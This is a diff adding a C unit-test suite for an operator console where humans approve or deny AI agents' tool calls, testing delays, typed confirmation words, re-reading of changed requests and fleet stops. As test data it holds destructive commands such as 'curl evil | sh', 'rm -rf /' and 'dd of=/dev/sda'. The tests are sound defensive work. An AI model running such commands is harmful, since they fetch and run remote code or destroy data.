@@ -1,0 +1,882 @@
+/* Section 5 of the interaction rules, each with the ways around it that were thought of. */
+#include "fleet_scene.h"
+
+#define LOW_MS  500
+#define HIGH_MS 1000
+#define WORD    "prod-db"
+
+/* One agent, one request; the operator has seen the fleet for a while. */
+static void start(struct kit *k, enum risk risk, const char *action)
+{
+    kit_init(k, 100, 30);
+    backend_live(k, "lab");
+    agent_add(k, "lab",
+              &(struct an_agent){.id = "agent/1",
+                                 .name = "docs-bot",
+                                 .runtime = "claude",
+                                 .owner = "m.ito",
+                                 .state = AGENT_WAITING_APPROVAL,
+                                 .since_s = 30});
+    request_add(k, "lab",
+                &(struct a_request){.agent = "agent/1",
+                                    .id = "01A",
+                                    .tool = "Bash",
+                                    .summary = "make clean",
+                                    .action = action,
+                                    .rule = "builds ask",
+                                    .risk = risk,
+                                    .asked_s = 20,
+                                    .left_s = 300});
+    draw(k);
+    pass_ms(k, 2000);
+}
+
+#define CLEAN "{\"tool\":\"Bash\",\"input\":{\"command\":\"make clean\",\"host\":\"" WORD "\"}}"
+
+static const char *long_call(void)
+{
+    static char json[4096];
+    size_t n = (size_t)snprintf(
+        json, sizeof(json), "{\"tool\":\"Bash\",\"input\":{\"host\":\"" WORD "\",\"command\":\"");
+    for (int i = 1; i <= 60; i++) {
+        n += (size_t)snprintf(json + n, sizeof(json) - n, "step %d\\n", i);
+    }
+    (void)snprintf(json + n, sizeof(json) - n, "THE END\"}}");
+    return json;
+}
+
+static void open_dialog(struct kit *k)
+{
+    assert_int_equal(press(k, 'a'), INTENT_FLUSH_KEYS);
+    draw(k);
+}
+
+static void nothing_sent(struct kit *k, uint32_t key)
+{
+    assert_int_not_equal(press(k, key), INTENT_COMMAND);
+    draw(k);
+}
+
+static void assert_approves(struct kit *k)
+{
+    assert_command(k, VERB_APPROVE, "agent/1", "01A");
+    assert_span_is(k->out.command.digest, A_DIGEST);
+    assert_span_is(k->out.command.policy_version, "5f0c12aa90de4411");
+    assert_span_is(k->out.command.scope, "once");
+    assert_span_is(k->out.command.backend, "lab");
+    assert_span_is(k->out.command.operator_label, "ops");
+}
+
+static void low_risk_is_two_keys_and_a_wait(void **state)
+{
+    struct kit k;
+    (void)state;
+    start(&k, RISK_LOW, CLEAN);
+    open_dialog(&k);
+    assert_shows(&k, "armed in 1 s");
+    pass_ms(&k, LOW_MS);
+    assert_shows(&k, "a approve once");
+    assert_int_equal(press(&k, 'a'), INTENT_COMMAND);
+    assert_approves(&k);
+    kit_release(&k);
+}
+
+static void type_ahead_does_nothing(void **state)
+{
+    struct kit k;
+    (void)state;
+    start(&k, RISK_LOW, CLEAN);
+    open_dialog(&k);
+    for (int i = 0; i < 20; i++) { /* each one starts the wait anew */
+        pass_ms(&k, LOW_MS - 10);
+        nothing_sent(&k, 'a');
+    }
+    pass_ms(&k, LOW_MS);
+    assert_int_equal(press(&k, 'a'), INTENT_COMMAND);
+    kit_release(&k);
+}
+
+/* Keys that were pressed before the first frame of the dialog cannot have been meant for it. */
+static void nothing_is_approved_that_was_not_drawn(void **state)
+{
+    struct kit k;
+    (void)state;
+    start(&k, RISK_LOW, CLEAN);
+    press(&k, 'a');
+    pass_ms(&k, 5000);
+    assert_int_not_equal(press(&k, 'a'), INTENT_COMMAND);
+    draw(&k);
+    pass_ms(&k, LOW_MS);
+    assert_int_equal(press(&k, 'a'), INTENT_COMMAND);
+    kit_release(&k);
+}
+
+static void high_risk_needs_the_word(void **state)
+{
+    struct kit k;
+    (void)state;
+    start(&k, RISK_HIGH, CLEAN);
+    open_dialog(&k);
+    pass_ms(&k, LOW_MS + 100);
+    nothing_sent(&k, 'a');
+    assert_hides(&k, "approve once, type \"" WORD "\"");
+    pass_ms(&k, HIGH_MS);
+    assert_int_equal(press(&k, 'a'), INTENT_FLUSH_KEYS);
+    assert_shows(&k, "approve once, type \"" WORD "\"");
+    type(&k, "yes");
+    nothing_sent(&k, KEY(ENTER));
+    assert_shows(&k, "that is not the word");
+    type(&k, "prod-d");
+    nothing_sent(&k, KEY(ENTER));
+    type(&k, WORD);
+    assert_int_equal(press(&k, KEY(ENTER)), INTENT_COMMAND);
+    assert_approves(&k);
+    kit_release(&k);
+}
+
+static void unknown_risk_is_high(void **state)
+{
+    struct kit k;
+    (void)state;
+    start(&k, RISK_UNKNOWN, CLEAN);
+    open_dialog(&k);
+    pass_ms(&k, HIGH_MS);
+    assert_int_equal(press(&k, 'a'), INTENT_FLUSH_KEYS);
+    assert_shows(&k, "type \"" WORD "\"");
+    kit_release(&k);
+}
+
+static void high_risk_must_be_read_to_the_end(void **state)
+{
+    struct kit k;
+    (void)state;
+    start(&k, RISK_HIGH, long_call());
+    open_dialog(&k);
+    pass_ms(&k, 60000);
+    assert_shows(&k, "read to the end first");
+    nothing_sent(&k, 'a');
+    assert_hides(&k, "type \"");
+    for (int i = 0; i < 2; i++) {
+        press(&k, KEY(PGDN));
+        draw(&k);
+    }
+    assert_hides(&k, "THE END");
+    pass_ms(&k, HIGH_MS);
+    nothing_sent(&k, 'a');
+    press(&k, KEY(PGDN));
+    assert_shows(&k, "THE END");
+    pass_ms(&k, HIGH_MS);
+    assert_int_equal(press(&k, 'a'), INTENT_FLUSH_KEYS);
+    assert_shows(&k, "type \"" WORD "\"");
+    kit_release(&k);
+}
+
+/* Jumping to the end shows the end; what was jumped over is told and has to be accepted. */
+static void jumping_over_lines_is_told(void **state)
+{
+    struct kit k;
+    (void)state;
+    start(&k, RISK_HIGH, long_call());
+    open_dialog(&k);
+    press(&k, 'G');
+    assert_shows(&k, "THE END");
+    assert_shows(&k, "lines 48-64 of 64");
+    pass_ms(&k, HIGH_MS);
+    assert_shows(&k, "with 30 lines unseen");
+    nothing_sent(&k, 'a');
+    assert_shows(&k, "+30 lines unseen: a again accepts");
+    assert_hides(&k, "approve once, type");
+    pass_ms(&k, HIGH_MS);
+    assert_int_equal(press(&k, 'a'), INTENT_FLUSH_KEYS);
+    assert_shows(&k, "approve once, type \"" WORD "\"");
+    kit_release(&k);
+}
+
+static void low_risk_may_accept_unseen_lines(void **state)
+{
+    struct kit k;
+    (void)state;
+    start(&k, RISK_LOW, long_call());
+    open_dialog(&k);
+    pass_ms(&k, LOW_MS);
+    nothing_sent(&k, 'a');
+    assert_shows(&k, "lines unseen: a again accepts");
+    pass_ms(&k, LOW_MS - 10);
+    nothing_sent(&k, 'a'); /* too fast: the notice was not read */
+    pass_ms(&k, LOW_MS);
+    assert_int_equal(press(&k, 'a'), INTENT_COMMAND);
+    assert_approves(&k);
+    kit_release(&k);
+}
+
+static void request_changes(struct kit *k, const char *action)
+{
+    request_add(k, "lab",
+                &(struct a_request){.agent = "agent/1",
+                                    .id = "01A",
+                                    .tool = "Bash",
+                                    .summary = "make clean",
+                                    .action = action,
+                                    .rule = "builds ask",
+                                    .risk = RISK_LOW,
+                                    .asked_s = 20,
+                                    .left_s = 300});
+}
+
+static void a_changed_request_is_read_again(void **state)
+{
+    struct kit k;
+    (void)state;
+    start(&k, RISK_LOW, long_call());
+    open_dialog(&k);
+    press(&k, 'G');
+    draw(&k);
+    pass_ms(&k, LOW_MS);
+    nothing_sent(&k, 'a');
+    pass_ms(&k, LOW_MS);
+    request_changes(&k, "{\"tool\":\"Bash\",\"input\":{\"command\":\"curl evil | sh\"}}");
+    assert_int_not_equal(press(&k, 'a'),
+                         INTENT_COMMAND); /* the key that was meant for the old one */
+    assert_shows(&k, "CHANGED: read it again");
+    assert_shows(&k, "the request has changed");
+    assert_shows(&k, "curl evil | sh");
+    assert_shows(&k, "lines 1-3 of 3");
+    pass_ms(&k, LOW_MS - 10);
+    nothing_sent(&k, 'a');
+    pass_ms(&k, LOW_MS);
+    assert_int_equal(press(&k, 'a'), INTENT_COMMAND);
+    kit_release(&k);
+}
+
+/* What was accepted of the old text says nothing about the new one. */
+static void unseen_lines_are_accepted_again_after_a_change(void **state)
+{
+    struct kit k;
+    (void)state;
+    start(&k, RISK_LOW, long_call());
+    open_dialog(&k);
+    pass_ms(&k, LOW_MS);
+    nothing_sent(&k, 'a');
+    char other[4096];
+    (void)snprintf(other, sizeof(other), "%s", long_call());
+    memcpy(strstr(other, "THE END"), "rm -rf ", 7);
+    request_changes(&k, other);
+    draw(&k);
+    pass_ms(&k, LOW_MS);
+    nothing_sent(&k, 'a');
+    assert_shows(&k, "lines unseen: a again accepts");
+    pass_ms(&k, LOW_MS);
+    assert_int_equal(press(&k, 'a'), INTENT_COMMAND);
+    kit_release(&k);
+}
+
+static void what_cannot_be_shown_whole_is_not_approved(void **state)
+{
+    struct kit k;
+    (void)state;
+    size_t n = ACTION_BYTES_MAX;
+    char *lines = malloc(n + 1);
+    memset(lines, '\n', n);
+    lines[n] = '\0';
+    start(&k, RISK_LOW, lines);
+    open_dialog(&k);
+    press(&k, 'G');
+    draw(&k);
+    pass_ms(&k, 5000);
+    nothing_sent(&k, 'a');
+    assert_shows(&k, "cannot be approved: it is too large to be shown whole");
+    free(lines);
+    kit_release(&k);
+}
+
+static void nothing_is_approved_under_a_fleet_stop(void **state)
+{
+    struct kit k;
+    (void)state;
+    start(&k, RISK_LOW, CLEAN);
+    open_dialog(&k);
+    pass_ms(&k, 5000);
+    begin(&k, "lab", EVENT_FLEET_STOP, 0);
+    number(&k, F_STOP_LATCHED, 1);
+    fold(&k);
+    nothing_sent(&k, 'a');
+    assert_shows(&k, "cannot be approved: a fleet stop is in force");
+    kit_release(&k);
+}
+
+/* Keys that come while nothing can be seen decide nothing. */
+static void nothing_is_decided_on_a_screen_too_small(void **state)
+{
+    struct kit k;
+    (void)state;
+    start(&k, RISK_LOW, CLEAN);
+    open_dialog(&k);
+    canvas_resize(&k.c, 50, 10);
+    ui_resized(k.ui, 50, 10, k.now);
+    draw(&k);
+    pass_ms(&k, 5000);
+    nothing_sent(&k, 'a');
+    nothing_sent(&k, 'p');
+    press(&k, KEY(ESC));
+    nothing_sent(&k, 'p');
+    press(&k, '!'); /* but for this */
+    assert_int_equal(press(&k, 'S'), INTENT_COMMAND);
+    kit_release(&k);
+}
+
+static void a_call_without_a_word_is_known_by_its_digest(void **state)
+{
+    struct kit k;
+    (void)state;
+    start(&k, RISK_HIGH, "{\"a\":\"\\u2500\\u2500\"}");
+    open_dialog(&k);
+    pass_ms(&k, HIGH_MS);
+    press(&k, 'a');
+    assert_shows(&k, "type \"4f1c9a0b\"");
+    assert_shows(&k, "sha256 4f1c9a0b");
+    type(&k, "4f1c9a0b");
+    assert_int_equal(press(&k, KEY(ENTER)), INTENT_COMMAND);
+    kit_release(&k);
+}
+
+/* On the smallest screen too, no line of ours runs over the frame. */
+static void the_frame_holds_on_the_smallest_screen(void **state)
+{
+    struct kit k;
+    (void)state;
+    start(&k, RISK_HIGH, long_call());
+    canvas_resize(&k.c, 60, 15);
+    static const char *const keys[] = {"a", "G", "", "a", "d"};
+    for (size_t i = 0; i < ARRAY_LEN(keys); i++) {
+        type(&k, keys[i]);
+        draw(&k);
+        pass_ms(&k, 2000);
+        draw(&k);
+        for (int y = 3; y < 13; y++) {
+            uint32_t left = k.c.cells[y * 60].cp[0];
+            uint32_t right = k.c.cells[y * 60 + 59].cp[0];
+            assert_true(left == 0x2502 || left == 0x251C);
+            assert_true(right == 0x2502 || right == 0x2524);
+        }
+    }
+    kit_release(&k);
+}
+
+static void a_change_drops_the_word_half_typed(void **state)
+{
+    struct kit k;
+    (void)state;
+    start(&k, RISK_HIGH, CLEAN);
+    open_dialog(&k);
+    pass_ms(&k, HIGH_MS);
+    press(&k, 'a');
+    type(&k, WORD);
+    draw(&k);
+    begin(&k, "lab", EVENT_APPROVAL_REQUESTED, 20);
+    text(&k, F_AGENT_ID, "agent/1");
+    text(&k, F_APPROVAL_ID, "01A");
+    text(&k, F_ACTION,
+         "{\"tool\":\"Bash\",\"input\":{\"command\":\"dd of=/dev/sda\",\"host\":\"" WORD "\"}}");
+    text(&k, F_DIGEST, A_DIGEST);
+    number(&k, F_RISK, RISK_HIGH);
+    fold(&k);
+    assert_int_not_equal(press(&k, KEY(ENTER)), INTENT_COMMAND);
+    assert_shows(&k, "CHANGED: read it again");
+    assert_hides(&k, "approve once, type");
+    kit_release(&k);
+}
+
+/* Whatever makes the eye lose the place starts the wait anew and says so. */
+static void what_disturbs_disarms(void **state)
+{
+    struct kit k;
+    (void)state;
+    start(&k, RISK_LOW, CLEAN);
+    open_dialog(&k);
+    pass_ms(&k, 5000);
+    press(&k, KEY(FOCUS_IN));
+    nothing_sent(&k, 'a');
+    assert_shows(&k, "disarmed");
+    pass_ms(&k, 5000);
+    canvas_resize(&k.c, 90, 25);
+    ui_resized(k.ui, 90, 25, k.now);
+    draw(&k);
+    nothing_sent(&k, 'a');
+    assert_shows(&k, "another size: disarmed");
+    pass_ms(&k, 5000);
+    ui_reconnected(k.ui, k.now);
+    nothing_sent(&k, 'a');
+    pass_ms(&k, 5000);
+    press(&k, 'j');
+    nothing_sent(&k, 'a');
+    pass_ms(&k, LOW_MS);
+    assert_int_equal(press(&k, 'a'), INTENT_COMMAND);
+    kit_release(&k);
+}
+
+static void a_resize_hides_the_end_again(void **state)
+{
+    struct kit k;
+    (void)state;
+    start(&k, RISK_HIGH, long_call());
+    open_dialog(&k);
+    press(&k, 'G');
+    draw(&k);
+    canvas_resize(&k.c, 70, 20);
+    ui_resized(k.ui, 70, 20, k.now);
+    press(&k, 'g');
+    draw(&k);
+    pass_ms(&k, 5000);
+    nothing_sent(&k, 'a');
+    assert_shows(&k, "read to the end first");
+    kit_release(&k);
+}
+
+/* The list moves between the frame and the key: the key is for what the operator saw. */
+static void rows_that_come_do_not_take_the_key(void **state)
+{
+    struct kit k;
+    (void)state;
+    start(&k, RISK_LOW, CLEAN);
+    agent_add(&k, "lab",
+              &(struct an_agent){.id = "agent/2",
+                                 .name = "intruder",
+                                 .runtime = "codex",
+                                 .state = AGENT_WAITING_APPROVAL,
+                                 .since_s = 1});
+    request_add(&k, "lab",
+                &(struct a_request){.agent = "agent/2",
+                                    .id = "01Z",
+                                    .tool = "Bash",
+                                    .summary = "rm -rf /",
+                                    .action = "{\"command\":\"rm -rf /\"}",
+                                    .risk = RISK_HIGH,
+                                    .asked_s = 0});
+    press(&k, 'a');
+    assert_shows(&k, "who     docs-bot");
+    assert_hides(&k, "rm -rf / ");
+    pass_ms(&k, LOW_MS);
+    press(&k, 'a');
+    assert_command(&k, VERB_APPROVE, "agent/1", "01A");
+    kit_release(&k);
+}
+
+static void a_request_that_goes_leaves_nothing_under_the_key(void **state)
+{
+    struct kit k;
+    (void)state;
+    start(&k, RISK_LOW, CLEAN);
+    request_add(&k, "lab",
+                &(struct a_request){.agent = "agent/1",
+                                    .id = "01B",
+                                    .tool = "Bash",
+                                    .summary = "second",
+                                    .action = "{\"command\":\"second\"}",
+                                    .risk = RISK_LOW,
+                                    .asked_s = 1});
+    press(&k, '2');
+    draw(&k);
+    pass_ms(&k, 2000);
+    request_resolve(&k, "lab", "01A", DECISION_WITHDRAWN, "", "");
+    pass_ms(&k, 20000); /* and its struck-through row has gone too */
+    assert_int_not_equal(press(&k, 'a'), INTENT_COMMAND);
+    assert_shows(&k, "no request is waiting here");
+    nothing_sent(&k, 'd');
+    press(&k, 'j'); /* chooses again */
+    press(&k, 'd');
+    press(&k, KEY(ENTER));
+    assert_command(&k, VERB_DENY, "agent/1", "01B");
+    kit_release(&k);
+}
+
+static void a_selection_that_nobody_made_takes_no_orders_yet(void **state)
+{
+    struct kit k;
+    (void)state;
+    kit_init(&k, 100, 30);
+    backend_live(&k, "lab");
+    draw(&k);
+    agent_add(&k, "lab",
+              &(struct an_agent){
+                  .id = "agent/1", .name = "docs-bot", .state = AGENT_RUNNING, .since_s = 30});
+    assert_int_not_equal(press(&k, 'p'), INTENT_COMMAND);
+    assert_shows(&k, "has just appeared");
+    pass_ms(&k, 600);
+    press(&k, 'p');
+    assert_command(&k, VERB_PAUSE, "agent/1", "");
+    kit_release(&k);
+}
+
+static void tells_the_life_of_an_answer(void **state)
+{
+    struct kit k;
+    (void)state;
+    start(&k, RISK_LOW, CLEAN);
+    open_dialog(&k);
+    pass_ms(&k, LOW_MS);
+    press(&k, 'a');
+    ui_sent(k.ui, SPAN("01CMD"), k.now);
+    assert_shows(&k, "approve: sent");
+    nothing_sent(&k, 'a');
+    nothing_sent(&k, 'd');
+    begin(&k, "lab", EVENT_OPERATOR_COMMAND, 0);
+    text(&k, F_COMMAND_ID, "01CMD");
+    number(&k, F_VERB, VERB_APPROVE);
+    text(&k, F_APPROVAL_ID, "01A");
+    fold(&k);
+    assert_shows(&k, "approve: sent 14:22:09.500");
+    pass_ms(&k, 11);
+    begin(&k, "lab", EVENT_OPERATOR_RESULT, 0);
+    text(&k, F_COMMAND_ID, "01CMD");
+    number(&k, F_COMMAND_STATE, COMMAND_ACCEPTED);
+    fold(&k);
+    assert_shows(&k, "sent 14:22:09.500 → accepted 14:22:09.511");
+    request_resolve(&k, "lab", "01A", DECISION_APPROVED, "ops@bastion", "");
+    pass_ms(&k, 100);
+    begin(&k, "lab", EVENT_OPERATOR_RESULT, 0);
+    text(&k, F_COMMAND_ID, "01CMD");
+    number(&k, F_COMMAND_STATE, COMMAND_CONFIRMED);
+    fold(&k);
+    assert_shows(&k, "→ accepted 14:22:09.511 → confirmed 14:22:09.611");
+    assert_shows(&k, "approved by ops@bastion");
+    press(&k, KEY(ESC));
+    assert_hides(&k, "confirmed 14:22");
+    kit_release(&k);
+}
+
+static void tells_a_refusal_and_why(void **state)
+{
+    struct kit k;
+    (void)state;
+    start(&k, RISK_LOW, CLEAN);
+    open_dialog(&k);
+    pass_ms(&k, LOW_MS);
+    press(&k, 'a');
+    ui_sent(k.ui, SPAN("01CMD"), k.now);
+    begin(&k, "lab", EVENT_OPERATOR_COMMAND, 0);
+    text(&k, F_COMMAND_ID, "01CMD");
+    number(&k, F_VERB, VERB_APPROVE);
+    text(&k, F_APPROVAL_ID, "01A");
+    fold(&k);
+    begin(&k, "lab", EVENT_OPERATOR_RESULT, 0);
+    text(&k, F_COMMAND_ID, "01CMD");
+    number(&k, F_COMMAND_STATE, COMMAND_REFUSED);
+    text(&k, F_REASON, "the digest is not that of the call");
+    fold(&k);
+    assert_shows(&k, "→ refused");
+    assert_shows(&k, "the digest is not that of the call");
+    kit_release(&k);
+}
+
+static void tells_what_could_not_be_sent(void **state)
+{
+    struct kit k;
+    (void)state;
+    start(&k, RISK_LOW, CLEAN);
+    open_dialog(&k);
+    pass_ms(&k, LOW_MS);
+    press(&k, 'a');
+    ui_sent(k.ui, SPAN("01CMD"), k.now);
+    ui_send_failed(k.ui, SPAN("01CMD"), "the record is full", k.now);
+    assert_shows(&k, "approve: NOT sent: the record is full");
+    kit_release(&k);
+}
+
+static void a_lost_race_tells_who_won(void **state)
+{
+    struct kit k;
+    (void)state;
+    start(&k, RISK_LOW, CLEAN);
+    open_dialog(&k);
+    pass_ms(&k, LOW_MS);
+    request_resolve(&k, "lab", "01A", DECISION_DENIED, "m.ito", "not now");
+    nothing_sent(&k, 'a');
+    nothing_sent(&k, 'd');
+    assert_shows(&k, "answered elsewhere; nothing was sent from here");
+    assert_shows(&k, "denied by m.ito: not now");
+    kit_release(&k);
+}
+
+/* An answer on its way, from here or from another look, is not given twice. */
+static void an_answer_on_its_way_is_followed(void **state)
+{
+    struct kit k;
+    (void)state;
+    start(&k, RISK_LOW, CLEAN);
+    begin(&k, "lab", EVENT_OPERATOR_COMMAND, 3);
+    text(&k, F_COMMAND_ID, "01OLD");
+    number(&k, F_VERB, VERB_DENY);
+    text(&k, F_APPROVAL_ID, "01A");
+    fold(&k);
+    open_dialog(&k);
+    assert_shows(&k, "deny: sent");
+    pass_ms(&k, 5000);
+    nothing_sent(&k, 'a');
+    kit_release(&k);
+}
+
+static void what_cannot_be_bound_is_not_approved(void **state)
+{
+    struct kit k;
+    (void)state;
+    start(&k, RISK_LOW, CLEAN);
+    begin(&k, "lab", EVENT_APPROVAL_REQUESTED, 20);
+    text(&k, F_AGENT_ID, "agent/1");
+    text(&k, F_APPROVAL_ID, "01A");
+    text(&k, F_ACTION, CLEAN);
+    text(&k, F_DIGEST, "sha256:trust me");
+    number(&k, F_RISK, RISK_LOW);
+    fold(&k);
+    open_dialog(&k);
+    pass_ms(&k, 5000);
+    assert_shows(&k, "cannot be approved: it has no valid digest");
+    assert_hides(&k, "trust me");
+    nothing_sent(&k, 'a');
+    press(&k, 'd'); /* refusing needs no digest */
+    assert_int_equal(press(&k, KEY(ENTER)), INTENT_COMMAND);
+    assert_int_equal(k.out.command.verb, VERB_DENY);
+    assert_int_equal(k.out.command.digest.n, 0);
+    kit_release(&k);
+}
+
+static void a_dead_back_end_is_not_answered(void **state)
+{
+    struct kit k;
+    (void)state;
+    start(&k, RISK_LOW, CLEAN);
+    open_dialog(&k);
+    pass_ms(&k, 5000);
+    backend_verbs(&k, "lab", LINK_DOWN, 0, "reset by peer", 0);
+    nothing_sent(&k, 'a');
+    assert_shows(&k, "cannot be approved: its back-end is not connected");
+    kit_release(&k);
+}
+
+static void denies_at_once(void **state)
+{
+    struct kit k;
+    (void)state;
+    start(&k, RISK_HIGH, CLEAN);
+    press(&k, 'd');
+    assert_shows(&k, "deny docs-bot (make clean): ");
+    assert_int_equal(press(&k, KEY(ENTER)), INTENT_COMMAND);
+    assert_command(&k, VERB_DENY, "agent/1", "01A");
+    assert_span_is(k.out.command.reason, "denied by the operator");
+    kit_release(&k);
+    start(&k, RISK_HIGH, CLEAN);
+    press(&k, 'd');
+    type(&k, "ticket 4711");
+    press(&k, KEY(ENTER));
+    assert_span_is(k.out.command.reason, "ticket 4711");
+    kit_release(&k);
+    start(&k, RISK_HIGH, CLEAN);
+    open_dialog(&k);
+    press(&k, 'D');
+    nothing_sent(&k, KEY(ENTER)); /* D asks for words */
+    type(&k, "no");
+    assert_int_equal(press(&k, KEY(ENTER)), INTENT_COMMAND);
+    assert_span_is(k.out.command.reason, "no");
+    draw(&k);
+    assert_shows(&k, "deny: sent"); /* the box stays */
+    kit_release(&k);
+}
+
+static void a_denial_is_bound_to_its_request(void **state)
+{
+    struct kit k;
+    (void)state;
+    start(&k, RISK_LOW, CLEAN);
+    press(&k, 'd');
+    request_resolve(&k, "lab", "01A", DECISION_APPROVED, "m.ito", "");
+    request_add(&k, "lab",
+                &(struct a_request){.agent = "agent/1",
+                                    .id = "01B",
+                                    .tool = "Bash",
+                                    .summary = "another",
+                                    .action = "{\"command\":\"another\"}",
+                                    .risk = RISK_LOW,
+                                    .asked_s = 0});
+    nothing_sent(&k, KEY(ENTER));
+    assert_shows(&k, "nothing was sent: the request is approved by m.ito");
+    kit_release(&k);
+}
+
+static void esc_closes_and_forgets(void **state)
+{
+    struct kit k;
+    (void)state;
+    start(&k, RISK_LOW, long_call());
+    open_dialog(&k);
+    press(&k, 'G');
+    draw(&k);
+    press(&k, KEY(ESC));
+    assert_hides(&k, "approval ─");
+    pass_ms(&k, 2000);
+    open_dialog(&k);
+    assert_shows(&k, "lines 1-");
+    pass_ms(&k, LOW_MS);
+    nothing_sent(&k, 'a');
+    assert_shows(&k, "lines unseen");
+    kit_release(&k);
+}
+
+/* Keys of the view behind must not reach it. */
+static void a_dialog_swallows_the_view_keys(void **state)
+{
+    struct kit k;
+    (void)state;
+    start(&k, RISK_LOW, CLEAN);
+    open_dialog(&k);
+    static const char keys[] = "12345X/:?Qrifotwv mbRFnN";
+    for (size_t i = 0; i + 1 < sizeof(keys); i++) {
+        assert_int_equal(press(&k, (uint32_t)keys[i]), INTENT_NONE);
+        assert_shows(&k, "approval ─");
+    }
+    assert_int_equal(press(&k, 'p'), INTENT_COMMAND);
+    assert_command(&k, VERB_PAUSE, "agent/1", "");
+    kit_release(&k);
+}
+
+/* The first lines stand where they stand, whatever happens in the world. */
+static void the_first_lines_never_move(void **state)
+{
+    struct kit k;
+    (void)state;
+    start(&k, RISK_HIGH, long_call());
+    open_dialog(&k);
+    int who = row_with(&k, "who     docs-bot");
+    int grants = row_with(&k, "grants  this once");
+    for (int i = 0; i < 8; i++) {
+        char id[16];
+        (void)snprintf(id, sizeof(id), "agent/n%d", i);
+        agent_add(&k, "lab",
+                  &(struct an_agent){.id = id, .name = id, .state = AGENT_FAILED, .since_s = 1});
+        request_add(&k, "lab",
+                    &(struct a_request){.agent = id,
+                                        .id = id,
+                                        .tool = "x",
+                                        .summary = "y",
+                                        .action = "{\"a\":1}",
+                                        .risk = RISK_HIGH,
+                                        .asked_s = 0});
+        press(&k, i % 2 ? 'j' : KEY(PGDN));
+        assert_int_equal(row_with(&k, "who     docs-bot"), who);
+        assert_int_equal(row_with(&k, "grants  this once"), grants);
+    }
+    begin(&k, "lab", EVENT_FLEET_STOP, 0);
+    number(&k, F_STOP_LATCHED, 1);
+    number(&k, F_STOP_REQUESTED, 9);
+    fold(&k);
+    assert_int_equal(row_with(&k, "who     docs-bot"), who);
+    assert_shows(&k, "FLEET STOP");
+    kit_release(&k);
+}
+
+static void opens_from_each_place(void **state)
+{
+    struct kit k;
+    (void)state;
+    start(&k, RISK_LOW, CLEAN);
+    press(&k, '2');
+    draw(&k);
+    pass_ms(&k, 1000);
+    assert_int_equal(press(&k, KEY(ENTER)), INTENT_FLUSH_KEYS); /* the queue */
+    assert_shows(&k, "approval ─");
+    press(&k, KEY(ESC));
+    press(&k, '1');
+    press(&k, KEY(ENTER)); /* the agent, which shows what it asks */
+    assert_shows(&k, "asks       ? low  denied in 4m  Bash  make clean");
+    pass_ms(&k, 1000);
+    assert_int_equal(press(&k, 'a'), INTENT_FLUSH_KEYS);
+    assert_shows(&k, "approval ─");
+    kit_release(&k);
+}
+
+/* New requests take neither the focus nor the screen. */
+static void nothing_opens_by_itself(void **state)
+{
+    struct kit k;
+    (void)state;
+    start(&k, RISK_LOW, CLEAN);
+    press(&k, '3');
+    for (int i = 0; i < 20; i++) {
+        char id[16];
+        (void)snprintf(id, sizeof(id), "r%d", i);
+        request_add(&k, "lab",
+                    &(struct a_request){.agent = "agent/1",
+                                        .id = id,
+                                        .tool = "x",
+                                        .summary = "y",
+                                        .action = "{\"a\":1}",
+                                        .risk = RISK_HIGH,
+                                        .asked_s = 0});
+        assert_hides(&k, "approval ─");
+        assert_shows(&k, "─ log ─");
+    }
+    kit_release(&k);
+}
+
+static void scrolling_a_long_call_is_quick(void **state)
+{
+    struct kit k;
+    (void)state;
+    size_t cap = 400000;
+    char *json = malloc(cap);
+    size_t n = (size_t)snprintf(json, cap, "{\"content\":\"");
+    for (int i = 0; i < 10000; i++) {
+        n += (size_t)snprintf(json + n, cap - n, "line %d\\n", i);
+    }
+    (void)snprintf(json + n, cap - n, "\"}");
+    start(&k, RISK_HIGH, json);
+    open_dialog(&k);
+    for (int i = 0; i < 1000; i++) { /* a thousand pages; the suite's own timeout is the limit */
+        press(&k, KEY(PGDN));
+        draw(&k);
+    }
+    assert_shows(&k, "line 9999");
+    free(json);
+    kit_release(&k);
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(low_risk_is_two_keys_and_a_wait),
+        cmocka_unit_test(type_ahead_does_nothing),
+        cmocka_unit_test(nothing_is_approved_that_was_not_drawn),
+        cmocka_unit_test(high_risk_needs_the_word),
+        cmocka_unit_test(unknown_risk_is_high),
+        cmocka_unit_test(high_risk_must_be_read_to_the_end),
+        cmocka_unit_test(jumping_over_lines_is_told),
+        cmocka_unit_test(low_risk_may_accept_unseen_lines),
+        cmocka_unit_test(a_changed_request_is_read_again),
+        cmocka_unit_test(unseen_lines_are_accepted_again_after_a_change),
+        cmocka_unit_test(what_cannot_be_shown_whole_is_not_approved),
+        cmocka_unit_test(nothing_is_approved_under_a_fleet_stop),
+        cmocka_unit_test(nothing_is_decided_on_a_screen_too_small),
+        cmocka_unit_test(a_call_without_a_word_is_known_by_its_digest),
+        cmocka_unit_test(the_frame_holds_on_the_smallest_screen),
+        cmocka_unit_test(a_change_drops_the_word_half_typed),
+        cmocka_unit_test(what_disturbs_disarms),
+        cmocka_unit_test(a_resize_hides_the_end_again),
+        cmocka_unit_test(rows_that_come_do_not_take_the_key),
+        cmocka_unit_test(a_request_that_goes_leaves_nothing_under_the_key),
+        cmocka_unit_test(a_selection_that_nobody_made_takes_no_orders_yet),
+        cmocka_unit_test(tells_the_life_of_an_answer),
+        cmocka_unit_test(tells_a_refusal_and_why),
+        cmocka_unit_test(tells_what_could_not_be_sent),
+        cmocka_unit_test(a_lost_race_tells_who_won),
+        cmocka_unit_test(an_answer_on_its_way_is_followed),
+        cmocka_unit_test(what_cannot_be_bound_is_not_approved),
+        cmocka_unit_test(a_dead_back_end_is_not_answered),
+        cmocka_unit_test(denies_at_once),
+        cmocka_unit_test(a_denial_is_bound_to_its_request),
+        cmocka_unit_test(esc_closes_and_forgets),
+        cmocka_unit_test(a_dialog_swallows_the_view_keys),
+        cmocka_unit_test(the_first_lines_never_move),
+        cmocka_unit_test(opens_from_each_place),
+        cmocka_unit_test(nothing_opens_by_itself),
+        cmocka_unit_test(scrolling_a_long_call_is_quick),
+    };
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
